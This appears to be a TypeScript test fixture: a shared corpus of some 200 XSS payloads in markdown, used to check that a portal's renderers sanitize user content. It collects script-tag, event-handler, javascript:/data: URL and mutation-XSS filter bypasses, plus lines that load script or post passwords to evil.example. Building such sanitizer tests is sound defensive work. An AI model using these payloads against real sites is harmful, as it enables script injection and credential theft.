/**
 * Hostile markdown for the portal's renderers. `dangerIn` (xss-oracle.ts) reads what a
 * renderer produced the way a browser would and lists everything that could run script,
 * leave the page, restyle it or clobber the DOM.
 *
 * Every renderer of user or author markdown must turn each payload into HTML in which
 * `dangerIn` finds nothing. The corpus is shared so that a new renderer (documentation,
 * with highlighting, anchors and callouts added after sanitizing) is held to the same bar.
 */

export type XssPayload = { name: string; markdown: string };

/** A media library id, so image payloads reach the branch that keeps an image. */
const media = "/media/0b0e3c1a-5d2f-4c3b-9a11-2f6e8d7c9b10";

/** `<script>alert(1)</script>`, base64: what a `data:` document would run. */
const scriptB64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";
/** `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, base64. */
const svgB64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";

export const xssCorpus: readonly XssPayload[] = [
  // --- Script tags. The obvious one; the variants beat filters that match text rather
  // than parse it (nesting that reassembles after a strip, case, broken or unclosed tags),
  // and code fences test that escaping out of `<pre><code>` stays text.
  { name: "script: plain", markdown: "<script>alert(1)</script>" },
  { name: "script: inline in a paragraph", markdown: "Hello <script>alert(1)</script> world" },
  { name: "script: nested to reassemble after a strip", markdown: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "script: doubled angle brackets", markdown: "<<script>script>alert(1)<</script>/script>" },
  { name: "script: mixed case", markdown: "<ScRiPt>alert(1)</sCrIpT>" },
  { name: "script: unclosed", markdown: "<script>alert(1)" },
  { name: "script: external src, self-closing", markdown: '<script src="https://evil.example/x.js" />' },
  { name: "script: slash instead of space", markdown: "<script/src=data:,alert(1)></script>" },
  { name: "script: newline inside the tag", markdown: "<script\n>alert(1)</script\n>" },
  { name: "script: in link text", markdown: "[<script>alert(1)</script>](https://example.com)" },
  {
    name: "script: breaking out of a backtick fence",
    markdown: "```\n</code></pre><script>alert(1)</script>\n```",
  },
  {
    name: "script: breaking out of a tilde fence",
    markdown: "~~~html\n</code></pre><script>alert(1)</script><pre><code>\n~~~",
  },
  { name: "script: unclosed fence", markdown: "```\n<script>alert(1)</script>" },
  {
    name: "script: fence inside a longer fence",
    markdown: "````\n```\n</code></pre><script>alert(1)</script>\n```\n````",
  },
  { name: "script: in the fence's info string", markdown: '```js"><script>alert(1)</script>\nx\n```' },
  { name: "script: breaking out of inline code", markdown: "`</code><script>alert(1)</script>`" },
  { name: "script: indented code block", markdown: "    </code></pre><script>alert(1)</script>" },

  // --- Event handler attributes: script without a script tag, in any element that
  // fires an event by itself (onerror, onload, autofocus + onfocus) or on a hover.
  { name: "on*: img onerror", markdown: "<img src=x onerror=alert(1)>" },
  { name: "on*: media image with onerror", markdown: `<img src="${media}" onerror="alert(1)">` },
  { name: "on*: mixed case", markdown: "<IMG SRC=x OnErRoR=alert(1)>" },
  { name: "on*: slash as separator", markdown: "<img/src=x/onerror=alert(1)>" },
  { name: "on*: body onload", markdown: "<body onload=alert(1)>" },
  { name: "on*: autofocus and onfocus", markdown: "<input autofocus onfocus=alert(1)>" },
  { name: "on*: onmouseover in inline html", markdown: 'Some <b onmouseover="alert(1)">bold</b> text' },
  { name: "on*: div block", markdown: '<div onmouseover="alert(1)">\n\nhover me\n\n</div>' },
  { name: "on*: details ontoggle", markdown: "<details open ontoggle=alert(1)><summary>x</summary></details>" },
  { name: "on*: video source onerror", markdown: "<video><source onerror=alert(1)></video>" },
  { name: "on*: audio onerror", markdown: "<audio src=x onerror=alert(1)></audio>" },
  { name: "on*: marquee onstart", markdown: "<marquee onstart=alert(1)>x</marquee>" },
  { name: "on*: link with onclick", markdown: '<a href="https://example.com" onclick="alert(1)">x</a>' },
  { name: "on*: custom element", markdown: "<x-card onpointerenter=alert(1)>x</x-card>" },
  { name: "on*: newline before =", markdown: "<img src=x onerror\n=alert(1)>" },

  // --- SVG and MathML: foreign content parses differently (a `<script>` or `<style>`
  // inside it is live markup), animations can set `href` to `javascript:` after load,
  // and `<use>` can pull a whole document in.
  { name: "svg: onload", markdown: "<svg onload=alert(1)>" },
  { name: "svg: script inside", markdown: "<svg><script>alert(1)</script></svg>" },
  {
    name: "svg: foreignObject with an iframe",
    markdown: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  },
  {
    name: "svg: animate sets href",
    markdown: '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text y="20">x</text></a></svg>',
  },
  {
    name: "svg: set sets href",
    markdown: '<svg><a><set attributeName="href" to="javascript:alert(1)" /><text y="20">x</text></a></svg>',
  },
  { name: "svg: use href data document", markdown: `<svg><use href="data:image/svg+xml;base64,${svgB64}#x" /></svg>` },
  { name: "svg: xlink:href javascript", markdown: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' },
  { name: "svg: style with import", markdown: "<svg><style>@import url(javascript:alert(1));</style></svg>" },
  { name: "math: href", markdown: '<math href="javascript:alert(1)">click</math>' },
  {
    name: "math: mglyph style mutation",
    markdown: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  },

  // --- `javascript:` URLs in markdown's own links. Raw HTML is dropped, so this is
  // what reaches the sanitizer; markdown decodes character references in destinations,
  // and browsers strip whitespace/controls and ignore case when reading a scheme.
  { name: "js url: link", markdown: "[x](javascript:alert(1))" },
  { name: "js url: mixed case", markdown: "[x](JaVaScRiPt:alert(1))" },
  { name: "js url: leading spaces", markdown: "[x](   javascript:alert(1))" },
  { name: "js url: leading tab", markdown: "[x](\tjavascript:alert(1))" },
  { name: "js url: pointy brackets", markdown: "[x](<javascript:alert(1)>)" },
  { name: "js url: pointy brackets with spaces", markdown: "[x](< javascript:alert(1) >)" },
  { name: "js url: with a title", markdown: '[x](javascript:alert(1) "title")' },
  { name: "js url: hex entity for j", markdown: "[x](&#x6A;avascript:alert(1))" },
  { name: "js url: zero-padded decimal entity", markdown: "[x](&#0000106;avascript:alert(1))" },
  {
    name: "js url: all decimal entities",
    markdown: "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
  },
  { name: "js url: entity tab inside", markdown: "[x](jav&#x09;ascript:alert(1))" },
  { name: "js url: entity newline inside", markdown: "[x](java&#x0A;script:alert(1))" },
  { name: "js url: entity colon", markdown: "[x](javascript&colon;alert(1))" },
  { name: "js url: numeric colon", markdown: "[x](javascript&#58;alert(1))" },
  { name: "js url: leading entity space", markdown: "[x](&#x20;javascript:alert(1))" },
  { name: "js url: percent-encoded", markdown: "[x](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))" },
  { name: "js url: percent-encoded newline", markdown: "[x](java%0ascript:alert(1))" },
  { name: "js url: newline split (not a link)", markdown: "[x](java\nscript:alert(1))" },
  { name: "js url: comment after //", markdown: "[x](javascript://%0Aalert(1))" },
  { name: "js url: image", markdown: "![x](javascript:alert(1))" },
  { name: "js url: autolink", markdown: "<javascript:alert(1)>" },
  { name: "js url: autolink upper case", markdown: "<JAVASCRIPT:alert(1)>" },
  { name: "js url: autolink that looks like an email", markdown: "<javascript:alert(1)@example.com>" },
  { name: "js url: reference definition", markdown: "[x][1]\n\n[1]: javascript:alert(1)" },
  { name: "js url: reference, shortcut", markdown: "[click]\n\n[click]: <javascript:alert(1)> 'title'" },
  { name: "js url: reference, collapsed and case-folded", markdown: "[Click][]\n\n[CLICK]: JavaScript:alert(1)" },
  { name: "js url: reference image", markdown: "![x][img]\n\n[img]: javascript:alert(1)" },

  // --- `data:` URLs: a whole attacker document (HTML or SVG) behind a link or image.
  { name: "data url: text/html link", markdown: "[x](data:text/html,<script>alert(1)</script>)" },
  { name: "data url: base64 html link", markdown: `[x](data:text/html;base64,${scriptB64})` },
  { name: "data url: upper case", markdown: "[x](DATA:text/html,alert(1))" },
  { name: "data url: svg image", markdown: `![x](data:image/svg+xml;base64,${svgB64})` },
  { name: "data url: png image", markdown: "![x](data:image/png;base64,iVBORw0KGgo=)" },
  { name: "data url: autolink", markdown: "<data:text/html,alert(1)>" },
  { name: "data url: reference definition", markdown: `[x][d]\n\n[d]: data:text/html;base64,${scriptB64}` },

  // --- Other schemes: legacy script schemes and local files.
  { name: "scheme: vbscript", markdown: "[x](vbscript:msgbox(1))" },
  { name: "scheme: livescript", markdown: "[x](livescript:alert(1))" },
  { name: "scheme: file link", markdown: "[x](file:///etc/passwd)" },
  { name: "scheme: file autolink", markdown: "<file:///etc/passwd>" },
  { name: "scheme: file image", markdown: "![x](file:///C:/secret.png)" },
  // Schemes are read without regard to case (the sanitizer's own list compares them as
  // written), after dropping what a browser drops: leading controls and spaces, tabs and
  // newlines anywhere. Links keep any other scheme, so each refused one is tried here.
  { name: "scheme: vbscript upper case autolink", markdown: "<VBSCRIPT:msgbox(1)>" },
  { name: "scheme: file upper case", markdown: "[x](FILE:///etc/passwd)" },
  { name: "scheme: data mixed case, reference", markdown: "[x][d]\n\n[D]: DaTa:text/html,<script>alert(1)</script>" },
  { name: "scheme: blob", markdown: "[x](blob:https://evil.example/0b0e3c1a)" },
  { name: "scheme: filesystem", markdown: "[x](filesystem:https://evil.example/temporary/x.html)" },
  { name: "scheme: mhtml", markdown: "[x](mhtml:https://evil.example/x.mht!x.html)" },
  { name: "scheme: entity carriage return inside", markdown: "[x](java&#x0D;script:alert(1))" },
  { name: "scheme: entity form feed before", markdown: "[x](&#x0C;javascript:alert(1))" },
  { name: "scheme: entity controls before, upper case", markdown: "[x](<&#x01;&#x1F; JAVASCRIPT:alert(1)>)" },
  { name: "scheme: percent-encoded letter", markdown: "[x](java%73cript:alert(1))" },
  { name: "scheme: entity tab in vbscript", markdown: "[x](vb&#9;script:msgbox(1))" },
  { name: "scheme: upper-case https image", markdown: "![x](HTTPS://tracker.example/p.png)" },
  { name: "scheme: upper-case javascript image", markdown: "![x](JAVASCRIPT:alert(1))" },

  // --- The docs' own additions after sanitizing: in-page links led to heading ids, codes
  // kept whole in table cells, tables named by their headers, images shown as alt text.
  {
    name: "docs: fragment link to a hostile heading",
    markdown: '## x" onmouseover="alert(1)\n\n[a](#x-onmouseoveralert1)',
  },
  { name: "docs: fragment with quotes", markdown: '## Setup\n\n[a](#setup"onclick="alert(1))' },
  { name: "docs: doc link fragment breaking out", markdown: '[a](/docs/x#"><script>alert(1)</script>)' },
  { name: "docs: doc link with javascript after the fragment", markdown: "[a](/docs/x#javascript:alert(1))" },
  { name: "docs: heading named like the page's main", markdown: "## Main\n\n## Location\n\n## Cookie" },
  {
    name: "docs: table header with markup",
    markdown: '| <script>alert(1)</script> | " onfocus="alert(1) |\n| - | - |\n| E-104 | P/N 40-0021 |',
  },
  { name: "docs: code in a cell beside markup", markdown: "| Code |\n| - |\n| E-104<img src=x onerror=alert(1)> |" },
  { name: "docs: alt text with markup", markdown: "![<img src=x onerror=alert(1)>](https://tracker.example/p.png)" },
  {
    name: "docs: alt text in a javascript link",
    markdown: "[![click me](https://tracker.example/p.png)](javascript:alert(1))",
  },

  // --- Malformed and unclosed HTML: what a parser repairs may not be what a filter saw.
  { name: "malformed: no closing bracket", markdown: "<img src=x onerror=alert(1)//" },
  { name: "malformed: unclosed anchor", markdown: '<a href="javascript:alert(1)">unclosed' },
  { name: "malformed: doubled brackets", markdown: "<<img src=x onerror=alert(1)>>" },
  { name: "malformed: quotes break out", markdown: '<img """><script>alert(1)</script>">' },
  { name: "malformed: stray end tags", markdown: "</p><script>alert(1)</script><p>" },
  { name: "malformed: eval of own attribute", markdown: "<img src=x:alert(alt) onerror=eval(src) alt=0>" },
  { name: "malformed: entity in raw href", markdown: "<a href=javascript&colon;alert(1)>x</a>" },

  // --- HTML comments: parsers disagree on where a comment ends.
  { name: "comment: around a script", markdown: "<!-- --><script>alert(1)</script><!-- -->" },
  { name: "comment: ends inside an attribute", markdown: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: "comment: abruptly closed", markdown: "<!---><script>alert(1)</script>" },
  { name: "comment: conditional", markdown: "<!--[if IE]><script>alert(1)</script><![endif]-->" },
  { name: "comment: opened in inline code", markdown: "`<!--` <script>alert(1)</script> `-->`" },

  // --- Embedded documents, plugins, forms and document-level elements: each loads or
  // submits somewhere else, or changes how the whole page resolves or refreshes.
  { name: "embed: iframe srcdoc", markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: "embed: iframe javascript src", markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: "embed: object data", markdown: `<object data="data:text/html;base64,${scriptB64}"></object>` },
  { name: "embed: embed svg", markdown: `<embed src="data:image/svg+xml;base64,${svgB64}">` },
  { name: "embed: applet", markdown: '<applet code="Evil.class"></applet>' },
  { name: "embed: frameset onload", markdown: "<frameset onload=alert(1)>" },
  { name: "form: action", markdown: '<form action="javascript:alert(1)"><button>Go</button></form>' },
  { name: "form: formaction", markdown: '<form><button formaction="javascript:alert(1)">Go</button></form>' },
  {
    name: "form: credential phishing",
    markdown: '<form action="https://evil.example"><input name="password" type="password"></form>',
  },
  { name: "form: isindex", markdown: "<isindex action=javascript:alert(1) type=image>" },
  { name: "meta: refresh", markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: "base: href", markdown: '<base href="javascript:alert(1)//">' },
  { name: "link: rel=import", markdown: '<link rel="import" href="data:text/html,<script>alert(1)</script>">' },
  { name: "link: stylesheet", markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },

  // --- Styles: old IE ran `expression()`, `url(javascript:)` ran in some engines, and
  // any author CSS can overlay the page or read attributes with selectors.
  {
    name: "style: element with url(javascript:)",
    markdown: "<style>body{background:url(javascript:alert(1))}</style>",
  },
  { name: "style: element with import", markdown: "<style>@import 'https://evil.example/x.css';</style>" },
  { name: "style: attribute expression()", markdown: '<div style="width: expression(alert(1))">x</div>' },
  { name: "style: attribute url(javascript:)", markdown: "<p style=\"background:url('javascript:alert(1)')\">x</p>" },
  { name: "style: attribute overlay", markdown: '<div style="position:fixed;inset:0;z-index:9">x</div>' },

  // --- Markdown's own link and image syntax: titles and alt text end up in attributes,
  // so they must stay inside their quotes.
  { name: "md: title injection", markdown: '[a](https://example.com "onmouseover=alert(1)")' },
  { name: "md: title with quotes", markdown: "[a](https://example.com '\" onmouseover=\"alert(1)')" },
  { name: "md: title with entities", markdown: '[a](https://example.com "&quot; onmouseover=&quot;alert(1)")' },
  { name: "md: quotes in the destination", markdown: '[a](https://example.com"onmouseover="alert(1))' },
  {
    name: "md: pointy destination with spaces",
    markdown: '[a](<https://example.com" onmouseover="alert(1)>)',
  },
  { name: "md: nested brackets", markdown: "[[x](javascript:alert(1))](https://example.com)" },
  { name: "md: image in a javascript link", markdown: `[![x](${media})](javascript:alert(1))` },
  { name: "md: alt breaking out", markdown: `![" onerror="alert(1)](${media})` },
  { name: "md: image title breaking out", markdown: `![x](${media} "\\" onerror=\\"alert(1)")` },
  { name: "md: autolink with markup", markdown: '<https://example.com/"><script>alert(1)</script>>' },
  { name: "md: literal www autolink with markup", markdown: "www.example.com/?q=<script>alert(1)</script>" },
  { name: "md: image from another site", markdown: "![x](https://evil.example/pixel.png)" },
  { name: "md: protocol-relative image", markdown: "![x](//evil.example/pixel.png)" },
  { name: "md: media path traversal", markdown: `![x](${media}/../../evil.svg)` },
  { name: "md: media path on another host", markdown: `![x](https://evil.example${media})` },

  // --- Entities: escaped markup must stay visible text, even when double-encoded.
  { name: "entity: escaped script", markdown: "&lt;script&gt;alert(1)&lt;/script&gt;" },
  { name: "entity: double-encoded", markdown: "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;" },
  { name: "entity: decimal", markdown: "&#60;script&#62;alert(1)&#60;/script&#62;" },
  { name: "entity: hex img onerror", markdown: "&#x3C;img src=x onerror=alert(1)&#x3E;" },
  { name: "entity: backslash escapes", markdown: "\\<script>alert(1)\\</script>" },

  // --- GFM: tables, footnotes and task lists each build their own elements (cells,
  // back-references with ids, checkboxes) around what the author wrote.
  {
    name: "gfm: html in table cells",
    markdown: "| a | b |\n| - | - |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
  },
  { name: "gfm: javascript link in a table", markdown: "| a |\n| :-: |\n| [x](javascript:alert(1)) |" },
  {
    name: "gfm: html in a footnote",
    markdown: "Note[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
  },
  {
    name: "gfm: footnote label clobbering",
    markdown: "See[^location] and[^__proto__]\n\n[^location]: a\n[^__proto__]: b",
  },
  { name: "gfm: task list with an input", markdown: "- [ ] <input autofocus onfocus=alert(1)>\n- [x] done" },
  { name: "gfm: strikethrough around markup", markdown: "~~<script>alert(1)</script>~~" },

  // --- DOM clobbering: an element with `id`/`name` becomes a global (or a property of
  // `document`/a form) and can shadow what the page's own script reads.
  { name: "clobber: id=location", markdown: '<p id="location">x</p>' },
  { name: "clobber: name=cookie", markdown: '<img name="cookie" src="x">' },
  { name: "clobber: __proto__", markdown: '<a id="__proto__" name="__proto__" href="#">x</a>' },
  { name: "clobber: form with named inputs", markdown: '<form id="config"><input name="attributes"></form>' },

  // --- Reverse tabnabbing: an opened page gets `window.opener` without `noopener`.
  { name: "target: blank without rel", markdown: '<a href="https://example.com" target="_blank">x</a>' },

  // --- Raw-text and template elements: their contents parse differently (as text or
  // as an inert fragment) in different contexts, the root of mutation XSS.
  { name: "raw text: template", markdown: "<template><script>alert(1)</script></template>" },
  {
    name: "raw text: noscript mutation",
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { name: "raw text: xmp", markdown: "<xmp><script>alert(1)</script></xmp>" },
  { name: "raw text: plaintext", markdown: "<plaintext><script>alert(1)</script>" },
  { name: "raw text: listing", markdown: "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>" },
  { name: "raw text: textarea break out", markdown: "<textarea></textarea><script>alert(1)</script>" },
  { name: "raw text: title break out", markdown: '<title><img title="</title><img src=x onerror=alert(1)>"></title>' },

  // --- CDATA: only meaningful in foreign content, where it can hide a tag from a filter.
  { name: "cdata: in html", markdown: "<![CDATA[<script>alert(1)</script>]]>" },
  {
    name: "cdata: in svg",
    markdown: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
  },

  // --- Unicode: look-alikes, invisible characters and escape sequences that a
  // case-insensitive or normalising filter may turn into the real thing.
  { name: "unicode: long s in tag name", markdown: "<ſcript>alert(1)</ſcript>" },
  { name: "unicode: fullwidth brackets", markdown: "＜script＞alert(1)＜/script＞" },
  { name: "unicode: zero-width space in scheme", markdown: "[x](java\u200bscript:alert(1))" },
  { name: "unicode: byte order mark before scheme", markdown: "[x](\ufeffjavascript:alert(1))" },
  { name: "unicode: right-to-left override", markdown: "[x](\u202ejavascript:alert(1))" },
  { name: "unicode: js escape sequences", markdown: "[x](\\u006Aavascript\\u003Aalert(1))" },

  // --- Null bytes: some parsers drop them, so `java\0script:` can become `javascript:`.
  { name: "null: in tag name", markdown: "<scr\0ipt>alert(1)</scr\0ipt>" },
  { name: "null: in scheme", markdown: "[x](java\0script:alert(1))" },
  { name: "null: before colon", markdown: "[x](javascript\0:alert(1))" },
  { name: "null: before attribute", markdown: "<img src=x \0onerror=alert(1)>" },

  // --- Size: deep nesting and sheer length must not crash the renderer or push a
  // payload past a limit. (Nesting stays at 1,000: `dangerIn`'s parser overflows the
  // stack somewhere past 1,500 levels and then fails closed.)
  {
    name: "long: deeply nested html",
    markdown: `${"<div>".repeat(1000)}<script>alert(1)</script>${"</div>".repeat(1000)}`,
  },
  { name: "long: javascript link after a very long line", markdown: `${"x ".repeat(50_000)}[x](javascript:alert(1))` },
  { name: "long: very long javascript url", markdown: `[x](javascript:${"a".repeat(100_000)})` },
  { name: "long: deeply nested blockquotes", markdown: `${"> ".repeat(200)}[x](javascript:alert(1))` },
  {
    name: "long: many nested links and emphasis",
    markdown: `${"*[".repeat(500)}x${"](javascript:alert(1))*".repeat(500)}`,
  },
];
